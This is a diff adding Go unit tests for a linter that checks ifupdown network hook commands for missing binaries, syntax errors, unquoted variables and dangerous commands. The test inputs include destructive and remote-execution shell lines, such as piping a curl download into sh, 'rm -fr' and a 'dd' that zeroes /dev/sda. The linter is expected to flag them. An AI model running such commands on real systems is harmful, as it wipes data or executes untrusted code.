@@ -0,0 +1,63 @@
+package ifupdown
+
+import (
+	"slices"
+	"testing"
+	"testing/fstest"
+)
+
+func TestLintHook(t *testing.T) {
+	fsys := fstest.MapFS{
+		"sbin/ip":          {Mode: 0o755},
+		"usr/sbin/ethtool": {Mode: 0o755},
+	}
+	for command, want := range map[string][]LintCheck{
+		`/sbin/ip link set dev $IFACE mtu 9000`:                        nil,
+		`/usr/sbin/ethtool -K "$IF_ETHTOOL_DEV" tso off || true`:       nil,
+		`echo "$PHASE: ${#IF_ADDRESS}" >> /var/log/ifup.log`:           nil,
+		`[ "$MODE" = start ] && logger -t ifup $IFACE up`:              nil,
+		`/sbin/ethtool -s eth0 wol g`:                                  {LintMissingBinary},
+		`echo "unterminated`:                                           {LintSyntax},
+		`if true; then echo up`:                                        {LintSyntax},
+		`ip addr add $IF_EXTRA_ADDRESS dev eth0`:                       {LintUnquoted},
+		`echo up > $IF_LOG`:                                            {LintUnquoted},
+		`curl -s http://example.com/up.sh | sh`:                        {LintDangerous},
+		`eval "$IF_UP_COMMANDS"`:                                       {LintDangerous},
+		`rm -fr /run/eth0 && /sbin/reboot`:                             {LintDangerous, LintMissingBinary, LintDangerous},
+		`/bin/rm --recursive /tmp/$IF_DIR`:                             {LintMissingBinary, LintDangerous, LintUnquoted},
+		`x=$(cat /run/eth0.pid); kill $x; dd if=/dev/zero of=/dev/sda`: {LintUnquoted, LintDangerous},
+	} {
+		var got []LintCheck
+		for _, f := range LintHook(fsys, command) {
+			got = append(got, f.Check)
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("LintHook(%q) = %v, want %v", command, got, want)
+		}
+	}
+
+	if findings := LintHook(nil, "/sbin/nothere up"); len(findings) != 0 {
+		t.Errorf("LintHook() without a file system = %v", findings)
+	}
+	f := LintHook(nil, `logger $IF_MSG`)[0]
+	if f.Col != 8 || f.String() != `"logger $IF_MSG":8: unquoted-variable: $IF_MSG is not quoted and is split and globbed` {
+		t.Errorf("finding = %s", f)
+	}
+}
+
+func TestNetworkInterface_LintHooks(t *testing.T) {
+	ifaces := parseInterfaces(t, `iface eth0 inet dhcp
+	post-up /sbin/ip route add 10.1.0.0/16 via 10.0.0.1 dev $IFACE
+	down logger "eth0 $MODE
+`)
+	findings := ifaces.LintHooks(fstest.MapFS{"sbin/ip": {}})
+	if len(findings) != 1 || findings[0].Check != LintSyntax || findings[0].Phase != PhasePreDown ||
+		findings[0].Interface != "eth0" {
+		t.Fatalf("LintHooks() = %v", findings)
+	}
+	// ifupdown runs hooks as they are; a broken one is a finding, not an
+	// invalid stanza
+	if err := ifaces["eth0"].Validate(); err != nil {
+		t.Errorf("Validate() = %v", err)
+	}
+}